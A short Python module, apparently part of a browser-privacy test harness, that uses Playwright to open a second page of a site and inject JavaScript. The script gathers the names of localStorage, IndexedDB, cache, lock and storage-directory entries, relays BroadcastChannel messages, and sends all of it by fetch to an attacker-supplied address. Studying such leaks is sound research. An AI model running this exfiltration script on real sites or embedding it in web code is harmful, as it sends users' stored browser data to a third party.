"""The second half of what is left in the browser: another page of the site, in which the attacker's code runs too."""

from playwright.sync_api import BrowserContext

# Finds what the first page left, and sends all of it.
_SEND = """async address => {
  const channel = new BroadcastChannel("left");
  channel.onmessage = ({ data }) => fetch(`${address}/left?${data}`);
  const found = Object.keys(localStorage);
  found.push(...(await indexedDB.databases()).map(({ name }) => name), ...(await caches.keys()));
  found.push(...(await navigator.locks.query()).held.map(({ name }) => name));
  for await (const name of (await navigator.storage.getDirectory()).keys()) found.push(name);
  void fetch(`${address}/left`, { method: "POST", mode: "no-cors", body: found.join(" ") });
}"""


def find(context: BrowserContext, second: str, attacker: str) -> None:
    """Open the second page, to whose host cookies go of themselves, and send what is found from there.

    The page stays open, to hear what the first still says.
    """
    page = context.new_page()
    page.goto(second)
    page.evaluate(_SEND, attacker)
